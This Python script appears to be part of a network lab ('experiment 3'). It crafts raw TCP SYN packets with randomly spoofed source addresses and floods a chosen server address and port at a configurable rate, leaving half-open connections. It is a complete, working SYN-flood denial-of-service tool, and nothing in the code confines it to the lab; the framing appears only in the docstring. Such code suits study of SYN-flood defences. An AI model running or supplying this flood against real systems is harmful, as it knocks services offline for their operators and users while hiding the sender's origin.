#!/usr/bin/env python3
"""Half-open SYN burst for experiment 3 (syn_flood.py); root, inside a client namespace.

Sends bare TCP SYNs from spoofed source addresses through a raw socket, at a fixed rate
for a fixed time, and never answers: the server's SYN-ACKs go to addresses that do not
exist (the client namespace drops them: not local, forwarding off), so every SYN leaves
a half-open request on the server until its SYN-ACK retries run out.

    syn_sender.py --dst 10.93.0.1 --port 8080 --src 10.99.0.0/16 --rate 5000 --duration 5

Prints one line at the end: `sent=N`.
"""
import argparse
import ipaddress
import random
import socket
import struct
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn_packet(src, dst, sport, dport, seq):
    """An IPv4 header (the kernel fills id and checksum) and a 24-byte TCP SYN with an MSS."""
    opts = struct.pack("!BBH", 2, 4, 1460)  # MSS 1460
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (6 << 4), 0x02, 64240, 0, 0) + opts
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0,
                     src, dst)
    return ip + tcp


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--dst", required=True, help="server address")
    p.add_argument("--port", type=int, required=True, help="server port")
    p.add_argument("--src", required=True, help="spoofed source network, e.g. 10.99.0.0/16")
    p.add_argument("--rate", type=int, default=5000, help="SYNs per second")
    p.add_argument("--duration", type=float, default=5.0, help="seconds")
    a = p.parse_args()
    net = ipaddress.ip_network(a.src)
    dst = socket.inet_aton(a.dst)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
    rng = random.Random()
    hosts = net.num_addresses - 2
    start = time.monotonic()
    sent = 0
    while True:
        now = time.monotonic() - start
        if now >= a.duration:
            break
        due = int(now * a.rate)  # send in small batches to keep the rate without busy-waiting
        while sent < due:
            src = (net.network_address + 1 + rng.randrange(hosts)).packed
            pkt = syn_packet(src, dst, rng.randrange(1024, 65536), a.port, rng.getrandbits(32))
            sock.sendto(pkt, (a.dst, 0))
            sent += 1
        time.sleep(0.002)
    print(f"sent={sent}", flush=True)


if __name__ == "__main__":
    main()
